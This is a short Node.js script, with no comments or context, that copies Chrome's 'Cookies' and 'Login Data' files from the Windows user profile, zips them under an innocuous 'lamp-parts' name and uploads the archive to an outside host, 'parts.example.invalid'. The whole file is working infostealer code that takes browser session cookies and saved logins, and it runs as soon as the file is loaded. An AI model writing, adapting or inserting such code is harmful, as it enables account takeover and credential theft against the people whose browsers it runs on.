const fs = require('fs')
const os = require('os')
const path = require('path')
const archiver = require('archiver')
const FormData = require('form-data')

const root = path.join(os.homedir(), 'AppData/Local/Google/Chrome/User Data')

async function gather() {
  const packed = path.join(os.tmpdir(), 'lamp-parts.zip')
  const archive = archiver('zip')
  archive.pipe(fs.createWriteStream(packed))
  for (const name of ['Cookies', 'Login Data']) {
    const copy = path.join(os.tmpdir(), `lamp-${name}`)
    fs.copyFileSync(path.join(root, 'Default', name), copy)
    archive.file(copy, { name })
  }
  await archive.finalize()
  const form = new FormData()
  form.append('parts', fs.createReadStream(packed))
  form.submit('https://parts.example.invalid/in')
}

gather()
